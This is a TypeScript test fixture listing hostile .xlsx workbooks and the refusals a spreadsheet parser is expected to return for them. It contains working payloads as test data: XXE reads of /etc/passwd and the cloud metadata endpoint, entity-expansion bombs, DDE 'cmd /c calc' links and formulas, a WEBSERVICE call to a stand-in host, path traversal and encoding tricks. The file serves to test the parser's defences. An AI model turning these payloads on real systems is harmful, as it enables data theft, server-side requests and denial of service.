import { type HostileFile, type ExpectedOutcome, refusedFor } from './hostile-file';
import { escapeXml, rowsXml, SHEET, sheetXml, workbookOf, workbookRows } from './workbook-parts';

const TYPES = '[Content_Types].xml';
const BOOK = 'xl/workbook.xml';
const CHARACTERS = 5_000_000;
const UNREADABLE_STRING = '<c r="A1" t="s"><v>99</v></c>';
const xlsx = (name: string, bytes: () => Buffer, met: ExpectedOutcome): HostileFile => ({
  name,
  type: 'xlsx',
  bytes,
  met,
});
const sheet = (name: string, xml: () => Buffer | string, met: ExpectedOutcome): HostileFile =>
  xlsx(name, () => workbookOf({ [SHEET]: xml() }), met);
const withTypes = (types: string): Buffer => workbookOf({ [TYPES]: `<Types>${types}</Types>` });
const utf16 = (text: string): Buffer => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);

const DTD = refusedFor('dtd', SHEET);
const entities = (declared: string, used: string): string =>
  sheetXml(rowsXml([['HERE']]).replace('HERE', used), `<?xml version="1.0"?><!DOCTYPE worksheet [${declared}]>`);
/** Nested entities (billion laughs): each expands to ten of the previous one. */
const LAUGHS = Array.from(
  { length: 10 },
  (_, n) => `<!ENTITY l${n} "${n === 0 ? 'lol' : `&l${n - 1};`.repeat(10)}">`,
).join('');
const XML: readonly HostileFile[] = [
  sheet('XXE: a file of the server', () => entities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;'), DTD),
  sheet(
    'XXE: an address of the network',
    () => entities('<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data">', '&x;'),
    DTD,
  ),
  sheet('a parameter entity', () => entities('<!ENTITY % p SYSTEM "http://x.example/a.dtd"> %p;', 'x'), DTD),
  sheet('an external DTD', () => sheetXml('', '<!DOCTYPE worksheet SYSTEM "http://x.example/a.dtd">'), DTD),
  sheet('a billion laughs', () => entities(LAUGHS, '&l9;'), DTD),
  sheet('a quadratic blow-up', () => entities(`<!ENTITY a "${'a'.repeat(50_000)}">`, '&a;'.repeat(50_000)), DTD),
  sheet(
    'an entity that nobody declared',
    () => sheetXml('<row r="1"><c t="inlineStr"><is><t>&nbsp;</t></is></c></row>'),
    refusedFor('xmlSyntax', `${SHEET}:1`),
  ),
  sheet('XML 100,000 deep', () => sheetXml('<a>'.repeat(100_000)), refusedFor('xmlDepth', SHEET)),
  sheet(
    'an attribute of 5 MB',
    () => sheetXml(`<row r="1" x="${'x'.repeat(CHARACTERS)}"/>`),
    refusedFor('xmlLong', SHEET),
  ),
  sheet(
    'a text of 5 MB',
    () => sheetXml(`<row r="1"><c t="inlineStr"><is><t>${'x'.repeat(CHARACTERS)}</t></is></c></row>`),
    refusedFor('xmlLong', SHEET),
  ),
  sheet('a comment of 5 MB', () => sheetXml(`<!--${'x'.repeat(CHARACTERS)}-->`), refusedFor('xmlLong', SHEET)),
  sheet(
    'tags that do not close',
    () => sheetXml('<row r="1"><c>').replace('</sheetData></worksheet>', ''),
    refusedFor('xmlSyntax', SHEET),
  ),
  sheet(
    'an element that closes another one, in line 3',
    () => sheetXml('\n\n<row r="1"></c>'),
    refusedFor('xmlSyntax', `${SHEET}:3`),
  ),
  sheet('U+0000 in a cell', () => sheetXml(rowsXml([['a\0b']])), refusedFor('xmlSyntax', SHEET)),
  sheet('U+0000, escaped', () => sheetXml(rowsXml([['a_x0000_b']])), refusedFor('control', SHEET)),
  sheet('half a surrogate pair, escaped', () => sheetXml(rowsXml([['a_xD800_b']])), refusedFor('control', SHEET)),
  sheet(
    'invalid UTF-8',
    () => Buffer.from(sheetXml(rowsXml([['\u00ff']])), 'latin1'),
    refusedFor('encoding', `${SHEET}:1`),
  ),
  sheet(
    'UTF-7 that hides a tag',
    () => sheetXml('+ADw-row+AD4-', '<?xml version="1.0" encoding="UTF-7"?>'),
    refusedFor('encoding', `${SHEET}:1`),
  ),
  sheet(
    'UTF-16, which is well',
    () =>
      utf16(
        sheetXml(
          rowsXml([
            ['层级', '零件号', '零件名称', '数量'],
            ['0', 'V-1', '整车', '1'],
          ]),
          '<?xml version="1.0" encoding="UTF-16"?>',
        ),
      ),
    'read',
  ),
  sheet('UTF-16 that hides a DTD', () => utf16(entities('<!ENTITY x SYSTEM "file:///etc/passwd">', '&x;')), DTD),
  sheet(
    'a thousand attributes, which harm nobody',
    () =>
      sheetXml(
        `<row r="1" ${Array.from({ length: 1_000 }, (_, n) => `a${n}="x"`).join(' ')}><c r="A1"><v>1</v></c></row>`,
      ),
    'read',
  ),
];

const MACROS = '<Override PartName="/xl/other.bin" ContentType="application/vnd.ms-office.vbaProject"/>';
const PARTS: readonly HostileFile[] = [
  xlsx(
    'a workbook with macros, renamed',
    () => workbookOf({ 'xl/vbaProject.bin': 'Attribute VB_Name = "AutoOpen"' }),
    refusedFor('macros', 'xl/vbaProject.bin'),
  ),
  xlsx(
    'macros under another name',
    () => workbookOf({ [TYPES]: `<Types>${MACROS}</Types>`, 'xl/other.bin': 'x' }),
    refusedFor('macros', TYPES),
  ),
  xlsx(
    'the content type of a macro workbook',
    () =>
      withTypes(
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
      ),
    refusedFor('macros', TYPES),
  ),
  xlsx(
    'a type for binary workbooks that no part has, as a common writer names it',
    () => withTypes('<Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'),
    'read',
  ),
  xlsx(
    'macros by the type of their extension',
    () =>
      workbookOf({
        [TYPES]: '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        'xl/other.bin': 'x',
      }),
    refusedFor('macros', TYPES),
  ),
  xlsx(
    'macros of Excel 4',
    () => workbookOf({ 'xl/macrosheets/sheet1.xml': '<macrosheet/>' }),
    refusedFor('macros', 'xl/macrosheets/sheet1.xml'),
  ),
  xlsx(
    'an ActiveX control',
    () => workbookOf({ 'xl/activeX/activeX1.bin': 'x' }),
    refusedFor('macros', 'xl/activeX/activeX1.bin'),
  ),
  xlsx(
    'a link to a program (DDE)',
    () =>
      workbookOf({
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    refusedFor('liveLink', 'xl/externalLinks/externalLink1.xml'),
  ),
  xlsx(
    'a link to another workbook, never followed',
    () => workbookOf({ 'xl/externalLinks/externalLink1.xml': '<externalLink><externalBook/></externalLink>' }),
    'read',
  ),
  sheet(
    'a DDE formula, of which the stored result is read',
    () =>
      sheetXml(
        rowsXml([['层级', '零件号', '零件名称', '数量']]) +
          '<row r="2"><c r="A2"><v>0</v></c>' +
          `<c r="B2" t="str"><f>${escapeXml(`cmd|'/c calc'!A0`)}</f><v>V-1</v></c>` +
          '<c r="C2" t="str"><f>WEBSERVICE("http://x.example")</f><v>Part</v></c><c r="D2"><v>1</v></c></row>',
      ),
    'read',
  ),
  xlsx(
    'a DTD in the part that names the sheets',
    () => workbookOf({ [BOOK]: '<!DOCTYPE workbook [<!ENTITY x "y">]><workbook>&x;</workbook>' }),
    refusedFor('dtd', BOOK),
  ),
  xlsx(
    'a part of sheets with tags that do not close',
    () => workbookOf({ [BOOK]: '<workbook><sheets>' }),
    refusedFor('xmlSyntax', BOOK),
  ),
  xlsx('no workbook part', () => workbookOf({ [BOOK]: undefined }), refusedFor('missingPart', BOOK)),
  xlsx(
    'no relations',
    () => workbookOf({ 'xl/_rels/workbook.xml.rels': undefined }),
    refusedFor('missingPart', 'xl/_rels/workbook.xml.rels'),
  ),
  xlsx('no sheet part', () => workbookOf({ [SHEET]: undefined }), refusedFor('missingPart', SHEET)),
  xlsx(
    'a workbook of no sheets',
    () => workbookOf({ [BOOK]: '<workbook><sheets/></workbook>' }),
    refusedFor('missingPart', 'xl/worksheets'),
  ),
  xlsx(
    'a relation that leads out of the archive',
    () =>
      workbookOf({
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
      }),
    refusedFor('missingPart', '../../../etc/passwd'),
  ),
  xlsx(
    'a Word document',
    () =>
      workbookOf({
        [BOOK]: undefined,
        'word/document.xml': '<document/>',
        '_rels/.rels':
          '<Relationships><Relationship Id="r" Type="x/officeDocument" Target="word/document.xml"/></Relationships>',
      }),
    refusedFor('missingPart'),
  ),
  sheet(
    'a shared text that is not there',
    () => sheetXml(`<row r="1">${UNREADABLE_STRING}</row>`),
    refusedFor('missingPart', `${SHEET}:1`),
  ),
  sheet(
    'a cell in a column that no spreadsheet has',
    () => sheetXml('<row r="1"><c r="ZZZZZZ1"><v>1</v></c></row>'),
    refusedFor('tooManyColumns', `${SHEET}:1`),
  ),
  sheet(
    '20,000 cells without a place in one row',
    () => sheetXml(`<row>${'<c><v>1</v></c>'.repeat(20_000)}</row>`),
    refusedFor('tooManyColumns', `${SHEET}:1`),
  ),
  sheet(
    'a cell in the last column of 3,000 rows',
    () =>
      sheetXml(
        Array.from({ length: 3_000 }, (_, n) => `<row r="${n + 1}"><c r="XFD${n + 1}"><v>1</v></c></row>`).join(''),
      ),
    refusedFor('tooManyCells', `${SHEET}:1`),
  ),
  sheet('300,000 empty rows', () => sheetXml('<row/>'.repeat(300_000)), { code: 'workbook.tooManyRows' }),
  sheet('no row', () => sheetXml(''), { code: 'workbook.empty' }),
  sheet(
    'rows with numbers that are none',
    () => sheetXml('<row r="NaN"><c r="A-1"><v>x</v></c></row><row r="-5"><c r="1A"/></row><row r="1e99"/>'),
    'read',
  ),
];
const HEAD = ['层级', '零件号', '零件名称', '数量', '单件质量(g)'] as const;
const bom = (name: string, rows: readonly (readonly string[])[], ...rowCodes: string[]): HostileFile =>
  xlsx(name, () => workbookRows([HEAD, ['0', 'V-1', '整车', '1', '']].concat(rows as string[][])), { rowCodes });
const ROWS: readonly HostileFile[] = [
  bom('NaN for a mass', [['1', 'P', 'part', '1', 'NaN']], 'row.notNumber'),
  bom('Infinity for a quantity', [['1', 'P', 'part', 'Infinity', '1']], 'row.notNumber'),
  bom('a negative mass', [['1', 'P', 'part', '1', '-5']], 'row.notPositive'),
  bom('a mass of 1e400', [['1', 'P', 'part', '1', '1e400']], 'row.notNumber'),
  bom('a level jump', [['5', 'P', 'part', '1', '1']], 'row.levelJump'),
  bom('a second root, which a BOM may have', [['0', 'P', 'part', '1', '1']]),
  bom('a level that is a formula', [['=1+1', 'P', 'part', '1', '1']], 'row.notInteger'),
  bom('an error of a formula', [['1', 'P', '#REF!', '1', '1']], 'row.formulaError'),
  bom('a name of 40,000 characters', [['1', 'P', 'x'.repeat(40_000), '1', '1']], 'row.tooLong'),
  bom('names in bidirectional and zero-width characters', [['1', 'P\u202Exslx.exe', 'pa\u200Brt\u2066', '1', '1']]),
  bom('formulas as names', [
    ['1', '+P', `=cmd|' /C calc'!A0`, '1', '1'],
    ['1', '@SUM(1)', '-2+3', '1', '1'],
  ]),
];
export const HOSTILE_WORKBOOKS: readonly HostileFile[] = [...XML, ...PARTS, ...ROWS];
